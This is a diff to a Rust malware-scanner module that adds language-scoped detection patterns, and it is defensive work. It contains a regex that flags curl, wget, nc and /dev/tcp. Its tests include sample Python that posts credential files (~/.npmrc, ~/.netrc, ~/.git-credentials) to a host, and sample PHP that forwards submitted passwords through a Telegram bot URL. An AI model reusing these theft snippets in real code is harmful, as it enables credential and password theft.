@@ -3,6 +3,7 @@
 
 use std::{cell::RefCell, collections::BTreeMap, sync::LazyLock};
 
+use assay_manifests::Language;
 use regex::bytes::Regex;
 use rustc_hash::FxHashMap;
 use serde::Deserialize;
@@ -77,7 +78,7 @@ struct WrittenThreat {
 
 enum Form {
     Address,
-    Text { number: usize, form: Regex },
+    Text { number: usize, form: Regex, only: Option<&'static [Language]> },
 }
 
 struct Sign {
@@ -125,11 +126,12 @@ impl Table {
                     forms.push(Form::Address);
                     continue;
                 }
-                let number = *known.entry(form).or_insert_with(|| {
-                    texts.push(form.clone());
+                let (only, text) = by_language(form);
+                let number = *known.entry(text).or_insert_with(|| {
+                    texts.push(text.to_owned());
                     texts.len() - 1
                 });
-                forms.push(Form::Text { number, form: compiled(form)? });
+                forms.push(Form::Text { number, form: compiled(text)?, only });
             }
             numbers.insert(&sign.name, signs.len());
             signs.push(Sign { least: sign.least, forms });
@@ -157,12 +159,34 @@ impl Table {
     }
 }
 
+/// The languages that a form is asked in, by what stands before it, and the form.
+fn by_language(form: &str) -> (Option<&'static [Language]>, &str) {
+    use Language::*;
+    const BY_NAME: &[(&str, &[Language])] = &[
+        ("py: ", &[Python]),
+        ("js: ", &[JavaScript, TypeScript, Tsx]),
+        ("rb: ", &[Ruby]),
+        ("php: ", &[Php]),
+        ("go: ", &[Go]),
+        ("rs: ", &[Rust]),
+        ("sh: ", &[Bash]),
+    ];
+    let found = BY_NAME.iter().find_map(|(name, languages)| Some((Some(*languages), form.strip_prefix(name)?)));
+    found.unwrap_or((None, form))
+}
+
 /// What is known of a file beside its text.
-#[derive(Clone, Copy, Debug, Default)]
+#[derive(Clone, Copy, Debug)]
 pub struct About {
+    pub language: Language,
     /// It runs when its package is installed or built.
     pub installs: bool,
-    pub is_shell: bool,
+}
+
+impl About {
+    fn is_shell(self) -> bool {
+        self.language == Language::Bash
+    }
 }
 
 /// The signs of one file, each worked out when it is first asked for.
@@ -204,12 +228,12 @@ impl<'t> Signs<'t> {
             return self.about.installs.then(start);
         }
         let [net, rest @ ..] = table.shell;
-        if self.about.is_shell && rest.contains(&Some(number)) {
+        if self.about.is_shell() && rest.contains(&Some(number)) {
             return Some(start());
         }
-        if is("shell-fetch") || self.about.is_shell && net == Some(number) {
+        if is("shell-fetch") || self.about.is_shell() && net == Some(number) {
             static FETCHES: LazyLock<Option<Regex>> = LazyLock::new(|| compiled(r"\b(?:curl|wget|nc)\b|/dev/tcp/"));
-            let found = FETCHES.as_ref().filter(|_| self.about.is_shell)?.find(self.text.as_bytes())?;
+            let found = FETCHES.as_ref().filter(|_| self.about.is_shell())?.find(self.text.as_bytes())?;
             return Some((found.start(), found.end()));
         }
         if is("scrambled-text") {
@@ -236,7 +260,8 @@ impl<'t> Signs<'t> {
             }
             let found = match form {
                 Form::Address => self.outside_comments(hidden::public_address(self.text)),
-                Form::Text { number, form } => {
+                Form::Text { only: Some(only), .. } if !only.contains(&self.about.language) => None,
+                Form::Text { number, form, .. } => {
                     let may = self.may.get(number / CHUNK).is_none_or(|may| may.has(number % CHUNK));
                     let mut all = may.then(|| form.find_iter(self.text.as_bytes()).take(40)).into_iter().flatten();
                     all.find(|found| !self.is_said(found.start())).map(|found| (found.start(), found.end()))
@@ -288,6 +313,8 @@ pub fn threats(own: &Signs<'_>, others: &[Signs<'_>], out: &mut Vec<Threat>) {
 mod tests {
     use super::*;
 
+    const SCRIPT: About = About { language: Language::Python, installs: false };
+
     fn rules(text: &str, about: About) -> Vec<&'static str> {
         let mut out = Vec::new();
         threats(&Signs::of(text, about, &[]), &[], &mut out);
@@ -304,9 +331,9 @@ mod tests {
     #[test]
     fn stores_of_several_kinds_and_a_way_out_are_theft_whatever_the_module_is_called() {
         let theft = "import requests as r\nwanted = ['~/.npmrc', '~/.netrc', '~/.git-credentials']\nr.post(host, data=wanted)\n";
-        assert_eq!(rules(theft, About::default()), ["exfiltration"]);
+        assert_eq!(rules(theft, SCRIPT), ["exfiltration"]);
         let own = "import requests as r\nconfig = read('~/.npmrc')\nr.get(registry, auth=config)\n";
-        assert!(rules(own, About::default()).is_empty());
+        assert!(rules(own, SCRIPT).is_empty());
     }
 
     #[test]
@@ -314,15 +341,16 @@ mod tests {
         let text = "import requests\n# .npmrc .netrc .git-credentials\n";
         let comment = [(text.find('#').expect("a comment"), text.len())];
         let mut out = Vec::new();
-        threats(&Signs::of(text, About::default(), &comment), &[], &mut out);
+        threats(&Signs::of(text, SCRIPT, &comment), &[], &mut out);
         assert!(out.is_empty());
     }
 
     #[test]
     fn signs_of_a_small_package_count_together() {
+        let php = About { language: Language::Php, installs: false };
         let (page, sender) = ("<?php send($_POST['passwd']);", "<?php file_get_contents('https://api.telegram.org/bot1:x/sendMessage');");
         let mut out = Vec::new();
-        threats(&Signs::of(page, About::default(), &[]), &[Signs::of(sender, About::default(), &[])], &mut out);
+        threats(&Signs::of(page, php, &[]), &[Signs::of(sender, php, &[])], &mut out);
         assert_eq!(out.iter().map(|threat| threat.rule).collect::<Vec<_>>(), ["phishing"]);
     }
 }
